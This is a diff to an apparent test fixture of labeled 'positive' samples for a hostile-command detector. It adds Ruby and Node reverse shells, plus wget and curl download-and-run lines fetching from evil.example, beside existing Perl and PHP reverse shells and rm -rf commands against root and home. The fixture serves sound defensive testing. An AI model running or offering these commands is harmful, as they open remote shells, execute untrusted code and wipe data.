@@ -89,6 +89,13 @@ POSITIVES: list[tuple[str, str]] = [
      f"perl -e 'use Socket;$i=\"{HOST}\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
      "if(connect(S,sockaddr_in($p,inet_aton($i)))){exec(\"/bin/sh -i\");};'"),
     ("reverse_shell.perl_php_socket", f"php -r '$sock=fsockopen(\"{HOST}\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
+    ("reverse_shell.ruby_socket",
+     f"ruby -rsocket -e 'c=TCPSocket.new(\"{HOST}\",4444);$stdin.reopen(c);$stdout.reopen(c);exec \"/bin/sh -i\"'"),
+    ("reverse_shell.node_socket",
+     f"node -e 'var n=require(\"net\"),c=require(\"child_process\").spawn(\"/bin/sh\",[]);"
+     f"var s=new n.Socket();s.connect(4444,\"{HOST}\",function(){{s.pipe(c.stdin);c.stdout.pipe(s)}})'"),
+    ("shell_exec.download_then_run", "wget https://evil.example/payload && chmod +x payload && ./payload"),
+    ("shell_exec.download_then_run", "curl -fsSLo agent https://evil.example/a; chmod 755 agent; ./agent"),
     ("destructive_rm.rm_root_or_home", "rm -rf /"),
     ("destructive_rm.rm_root_or_home", "sudo rm -rf /*"),
     ("destructive_rm.rm_root_or_home", "rm -rf ~"),
